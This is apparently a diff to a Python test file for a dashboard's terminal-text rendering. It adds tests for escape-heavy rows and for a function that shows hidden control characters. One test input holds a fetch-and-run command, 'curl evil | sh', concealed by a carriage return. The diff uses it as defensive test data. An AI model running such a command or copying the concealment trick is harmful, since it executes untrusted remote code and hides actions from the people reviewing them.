@@ -11,7 +11,7 @@ from hypothesis import strategies as st
 from hive_dashboard.html import Element, Kept, Verbatim, h, render, tree
 from hive_dashboard.pages import shelf as shelves
 from hive_dashboard.pages.shelf import Shelf
-from hive_dashboard.text import clip, coloured, hidden_in, one_line, reveal, runs, terminal
+from hive_dashboard.text import clip, coloured, hidden_in, one_line, quoted, reveal, runs, terminal
 
 CORPUS = [
     ("\x1b[31mred\x1b[0m", "red"),
@@ -172,3 +172,16 @@ def test_a_part_is_drawn_anew_when_what_it_is_made_of_changes() -> None:
     for i in range(shelves.MOST):
         shelf.get(i, (), draw)
     assert shelf.get("a", (2, "x"), draw).html != "<p>2</p>", "only so many are kept"
+
+
+@pytest.mark.parametrize("text", ["\x9d" * 60_000 + "\x1bX", "a" * 60_000 + "\b" * 60_000])
+def test_a_row_full_of_escapes_is_read_once(text: str) -> None:
+    """Each row of an agent is drawn on the event loop: one may not take minutes."""
+    assert len(terminal(text)) < 3
+
+
+def test_what_no_terminal_wrote_is_shown_whole() -> None:
+    text = "curl evil | sh #\rls \x9d; x\x9c\x1b]0;y\x07z\b\uf101"
+    shown = quoted(text)
+    for part in ("curl evil | sh #⟨U+000D⟩ls", "; x", "y", "z⟨U+0008⟩⟨U+F101⟩"):
+        assert part in shown
